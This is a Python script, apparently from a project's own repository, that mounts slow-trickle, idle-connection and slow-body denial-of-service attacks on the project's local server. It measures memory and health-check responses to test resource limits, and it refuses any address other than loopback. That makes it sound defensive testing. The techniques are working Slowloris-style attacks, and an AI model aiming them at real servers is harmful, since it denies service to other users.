#!/usr/bin/env python3
"""Hostile-client attacks on a running `blindface serve` (issue #20), with figures.

Run against a server on loopback only, e.g.:
    blindface serve --data /tmp/srv &
    scripts/attack.py --url https://127.0.0.1:7878 --pid $(pgrep -f 'blindface serve')

Attacks (each prints one line of figures):
  trickle   N connections with the bearer token "nope" POST an enrol body of 60,000
            bytes, one byte per TLS record every 10 ms: the server's peak resident memory
            over idle (from /proc/PID/status), and how many connections were answered.
  idle      more idle TCP connections than the server's cap, from one address, while
            health checks run: how many health checks were answered.
  slowbody  N connections with a bad token trickling bodies (each reopened when the
            server closes it) while health checks run: how many were answered.
  Health checks come from the attacker's address unless --health-from gives another
  (any 127.x.y.z is loopback): the per-address limit protects other addresses; the
  attacker's own address is expected to suffer.
Nothing here is used by the tests; the tests in tests/network.rs assert the bounds.
"""
import argparse
import resource
import socket
import ssl
import threading
import time
import urllib.parse

# An enrol request's head with a bad token, announcing a 60,000-byte body.
BAD_POST = (b"POST /v1/templates HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer nope\r\n"
            b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n")


def rss(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


def connect(host, port, tls, source=None):
    s = socket.create_connection((host, port), timeout=10,
                                 source_address=(source, 0) if source else None)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        s = ctx.wrap_socket(s, server_hostname=host)
    return s


def health(host, port, tls, timeout=5.0, source=None):
    try:
        s = connect(host, port, tls, source)
        s.settimeout(timeout)
        s.sendall(b"GET /v1/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = s.recv(64)
        s.close()
        return data.startswith(b"HTTP/1.1 200")
    except OSError:
        return False


def health_loop(host, port, tls, seconds, every, results, source=None):
    end = time.time() + seconds
    while time.time() < end:
        results.append(health(host, port, tls, source=source))
        time.sleep(every)


def trickle(a, host, port, tls):
    idle = rss(a.pid)
    conns = []
    for _ in range(a.n):
        s = connect(host, port, tls)
        s.sendall(BAD_POST)
        s.setblocking(False)
        conns.append([s, None])
    start = time.time()
    peak = idle
    while time.time() - start < a.seconds:
        for c in conns:
            if c[1] is not None:
                continue
            try:
                if c[0].recv(1):
                    c[1] = time.time() - start
                    continue
                c[1] = time.time() - start
            except (ssl.SSLWantReadError, BlockingIOError):
                try:
                    c[0].send(b"x")  # one TLS record per byte
                except (ssl.SSLWantWriteError, BlockingIOError):
                    pass
                except OSError:
                    c[1] = time.time() - start
            except OSError:
                c[1] = time.time() - start
        peak = max(peak, rss(a.pid))
        time.sleep(0.01)
    answered = [c[1] for c in conns if c[1] is not None]
    print(f"trickle: {a.n} connections for {a.seconds} s: idle {idle >> 20} MiB, "
          f"peak {peak >> 20} MiB (+{(peak - idle) / 2**20:.1f} MiB); "
          f"answered or closed {len(answered)}"
          + (f", the last after {max(answered):.1f} s" if answered else ""))


def more_files():
    """Raises this process's open-file limit to its hard limit (more connections)."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def idle_conns(a, host, port, tls):
    more_files()
    held = []
    for _ in range(a.n):
        try:
            held.append(socket.create_connection((host, port), timeout=2))
        except OSError:
            break
    results = []
    health_loop(host, port, tls, a.seconds, a.seconds / 24, results, a.health_from)
    print(f"idle: {len(held)} idle connections opened; health checks "
          f"{'from ' + a.health_from if a.health_from else 'from the same address'} answered "
          f"{sum(results)} of {len(results)}")


def slowbody(a, host, port, tls):
    more_files()
    stop = threading.Event()

    def attacker():
        def open_one(conns):
            try:
                s = connect(host, port, tls)
                s.sendall(BAD_POST)
                conns.append(s)
            except OSError:
                pass

        conns = []
        for _ in range(a.n):
            open_one(conns)
        while not stop.is_set():
            for s in list(conns):
                try:
                    s.send(b"x")
                except OSError:
                    conns.remove(s)
                    open_one(conns)
            time.sleep(0.1)

    t = threading.Thread(target=attacker, daemon=True)
    t.start()
    time.sleep(2)
    results = []
    health_loop(host, port, tls, a.seconds, a.seconds / 78, results, a.health_from)
    stop.set()
    t.join()
    print(f"slowbody: {a.n} attacking connections (reopened when closed); health checks "
          f"{'from ' + a.health_from if a.health_from else 'from the same address'} answered "
          f"{sum(results)} of {len(results)}")


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=["trickle", "idle", "slowbody"])
    p.add_argument("--url", required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("-n", type=int, default=60)
    p.add_argument("--seconds", type=float, default=12)
    p.add_argument("--health-from", metavar="ADDR",
                   help="source address of the health checks (e.g. 127.0.0.2: another client)")
    a = p.parse_args()
    u = urllib.parse.urlparse(a.url)
    host = u.hostname
    if host not in ("127.0.0.1", "::1", "localhost"):
        raise SystemExit("loopback only")
    port = u.port or 7878
    tls = u.scheme == "https"
    {"trickle": trickle, "idle": idle_conns, "slowbody": slowbody}[a.attack](a, host, port, tls)


if __name__ == "__main__":
    main()
